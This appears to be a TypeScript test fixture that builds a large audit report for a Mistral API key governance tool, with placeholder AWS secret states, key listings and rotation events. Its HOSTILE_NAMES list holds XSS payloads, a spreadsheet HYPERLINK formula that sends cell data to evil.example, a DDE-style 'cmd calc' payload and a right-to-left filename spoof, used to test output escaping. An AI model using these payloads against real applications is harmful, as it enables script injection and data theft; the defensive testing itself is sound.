import { createAcceptances } from '../../governance/audit/acceptances.js';
import { createAudit } from '../../governance/audit/audit.js';
import { reconcileFindings } from '../../governance/audit/reconcile-findings.js';
import { type AuditReport, auditReport } from '../../governance/audit/report/audit-report.js';
import { createInventory } from '../../governance/audit/report/inventory.js';
import type { ReportedEvent } from '../../governance/audit/report/report-events.js';
import type { SecretState } from '../../governance/keys/rotation.js';
import type { ListedKey } from '../../governance/mistral/mistral.js';
import { addDays, startOfDay, utcDay } from '../../governance/platform/utc-day.js';
import { createdKeyName } from '../../governance/policy/key-name.js';
import { plannedKeys } from '../../governance/policy/planned-keys.js';
import type { Policy } from '../../governance/policy/policy.js';
import { A_DEPLOYMENT, FULL_COVERAGE, NO_HISTORY } from './evidence.js';

const AT = new Date('2026-06-30T02:00:00Z');
const TODAY = utcDay(AT);
const VERSION_ID = 'aaaaaaaa-0000-4000-8000-000000000001';

/** Hostile names that a user may give a key at Mistral. */
const HOSTILE_NAMES = [
  '<script>alert(document.domain)</script>',
  '"><img src=x onerror=alert(1)>',
  '=HYPERLINK("https://evil.example/?"&A1,\'open\')',
  '@SUM(1+1)*cmd|"/C calc"!A0',
  '</style></title><svg onload=alert(1)>',
  `one-word-${'x'.repeat(200)}`,
  'שלום \u202Egnp.exe 你好 🗝️',
  '',
];

/** The report of a large organization, with every kind of key and most kinds of findings. */
export function largeReport(policy: Policy, otherKeys: number): AuditReport {
  const planned = plannedKeys(policy);
  const secrets = new Map(
    planned.map(({ secretName }, i) => [secretName, secretState(secretName, i)]),
  );
  const workspaces = new Map(policy.workspaces.map((workspace) => [workspace.id, workspace]));
  const facts = {
    planned,
    secrets,
    retiring: { has: ({ id }: { readonly id: string }) => id === 'key-1' },
    workspaces,
  };
  const acceptances = createAcceptances(policy.audit.accepted, AT);
  const audit = createAudit(facts, policy.audit, AT, acceptances);
  const inventory = createInventory(facts, policy.audit, AT);
  for (const key of keysOf(policy, otherKeys)) inventory.add(key, audit.check(key));
  const view = { complete: true, changing: new Set<string>() };
  const current = audit.findings(view);
  return auditReport({
    inventory: inventory.build(view, current, ownersOf(policy)),
    changes: reconcileFindings({
      before: current.slice(1, 40).map((finding) => ({
        finding,
        openedOn: addDays(TODAY, -3),
        lastNotifiedOn: addDays(TODAY, -3),
      })),
      current: current.filter((_, i) => i % 9 !== 1),
      coverage: FULL_COVERAGE,
      acceptances,
      remindEveryDays: 7,
      now: AT,
    }),
    accepted: acceptances.accepted,
    acceptedLeftOut: acceptances.leftOut(),
    complete: true,
    policy,
    deployment: A_DEPLOYMENT,
    coverage: { ...FULL_COVERAGE, rateLimit: false },
    readers: planned.map(({ secretName, key }) => ({
      secret: secretName,
      named: key.readers,
      others: OWN_ROLES,
      isClosed: true,
    })),
    history: { ...NO_HISTORY, events: eventsOf(planned.map(({ secretName }) => secretName)) },
    problems: ["Mistral's rate limit could not be read: <b>503</b> upstream connect error"],
    at: AT,
  });
}

const OWN_ROLES = ['RotationFunctionRole-1AbCdEfGhIj', 'AuditFunctionRole-2AbCdEfGhIj'].map(
  (name) => `arn:aws:iam::111122223333:role/MistralGovernance-${name}`,
);

function ownersOf({ workspaces }: Policy): ReadonlyMap<string, string> {
  return new Map(workspaces.map(({ ownerUserId = '', team }) => [ownerUserId, `Owner of ${team}`]));
}

function eventsOf(secrets: readonly string[]) {
  return secrets.slice(0, 3).map((secret, index): ReportedEvent => {
    const event = index === 0 ? 'revoked' : 'rotated';
    const [, workspace = ''] = secret.split('/');
    const proof =
      index === 0
        ? 'seen refused (401) at 2026-06-29 22:15 UTC, and not listed by Mistral'
        : 'Mistral accepted the new key before it became current';
    const key = `330507d3-4f6a-4b58-8f0e-00000000000${index}`;
    return { at: `2026-06-29T2${index}:15:00.000Z`, event, secret, workspace, key, proof };
  });
}

function secretState(name: string, index: number): SecretState {
  const rotatedOn = addDays(TODAY, -((index * 17) % 97));
  return {
    arn: `arn:aws:secretsmanager:eu-west-1:111122223333:secret:${name}-AbCdEf`,
    name,
    rotationEnabled: true,
    stagesByVersion: { [VERSION_ID]: ['AWSCURRENT'] },
    createdAt: startOfDay(rotatedOn),
    lastRotatedAt: startOfDay(rotatedOn),
    nextRotationAt: startOfDay(addDays(rotatedOn, 90)),
  };
}

function* keysOf(policy: Policy, otherKeys: number): Generator<ListedKey> {
  for (const [index, { key, workspace }] of plannedKeys(policy).entries()) {
    if (index === 2) continue; // a key that is missing
    const createdOn = addDays(TODAY, -((index * 17) % 97));
    yield {
      id: `key-${index}`,
      name: createdKeyName(key.name, createdOn, VERSION_ID),
      workspaceId: workspace.id,
      workspaceName: workspace.name,
      createdAt: startOfDay(createdOn),
      expiresOn: addDays(createdOn, 111),
      lastUsedOn: TODAY,
    };
  }
  for (let index = 0; index < otherKeys; index += 1) {
    const createdOn = addDays(TODAY, -((index * 7919) % 420));
    yield {
      id: `9a4d7c1e-3b58-4f6a-8f0e-${String(index).padStart(12, '0')}`,
      name: HOSTILE_NAMES[index] ?? `service ${index}`,
      workspaceId: policy.workspaces[index % 7]?.id,
      workspaceName: `workspace ${index % 7}`,
      createdBy: `person${index % 23}@example.com`,
      createdAt: index % 50 === 11 ? undefined : startOfDay(createdOn),
      expiresOn: index % 6 === 0 ? undefined : addDays(TODAY, ((index * 13) % 200) - 20),
      lastUsedOn: index % 5 === 0 ? undefined : addDays(TODAY, -((index * 31) % 120)),
    };
  }
}
